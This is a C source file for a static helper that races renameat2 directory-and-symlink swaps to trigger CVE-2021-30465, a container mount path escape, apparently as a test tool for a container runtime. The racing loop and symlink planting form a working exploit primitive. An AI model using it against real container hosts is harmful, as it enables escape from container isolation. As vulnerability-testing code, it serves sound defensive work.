// SPDX-License-Identifier: GPL-2.0
/*
 * exchange A B SECONDS [LINK-TARGET [HOLD-US]]: swap A and B with
 * renameat2(RENAME_EXCHANGE) in a tight loop for SECONDS (the
 * CVE-2021-30465 racer: a directory and a symlink trading places while
 * containers mount onto paths through them).  With LINK-TARGET, first wait
 * (up to SECONDS) for A to appear, then make B a symlink to LINK-TARGET:
 * the copy-in racer, run inside a container that shares a volume another
 * container's create is filling (A is a directory that create makes).
 * HOLD-US: stay that long in each state, between swaps (LINK-TARGET may
 * be "" then).
 * ("waiting" is printed when it starts to wait.)
 * Prints the number of swaps when done or killed (SIGTERM).  Built static,
 * so that it runs inside a busybox image too.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

/* Spin until path exists: the racer must act within microseconds. */
static int wait_for(const char *path, time_t end)
{
	struct stat st;
	unsigned long n = 0;

	while (!stop && lstat(path, &st) < 0)
		if (++n % 4096 == 0 && time(NULL) >= end)
			return -1;
	return stop ? -1 : 0;
}

int main(int argc, char **argv)
{
	unsigned long n = 0;
	useconds_t hold;
	time_t end;

	if (argc < 4 || argc > 6) {
		fprintf(stderr, "usage: exchange A B SECONDS [LINK-TARGET [HOLD-US]]\n");
		return 2;
	}
	signal(SIGTERM, on_term);
	setvbuf(stdout, NULL, _IONBF, 0);
	end = time(NULL) + atoi(argv[3]);
	hold = argc == 6 ? (useconds_t)atoi(argv[5]) : 0;
	if (argc >= 5 && *argv[4]) {
		printf("waiting\n");
		if (wait_for(argv[1], end) < 0) {
			printf("0\n");
			return 0;
		}
		if (symlink(argv[4], argv[2]) < 0) {
			perror("symlink");
			return 1;
		}
	}
	while (!stop && time(NULL) < end) {
		int i;

		for (i = 0; i < 1000; i++) {
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
				    RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				printf("%lu\n", n);
				return 1;
			}
			n++;
			if (hold)
				usleep(hold);
		}
	}
	printf("%lu\n", n);
	return 0;
}
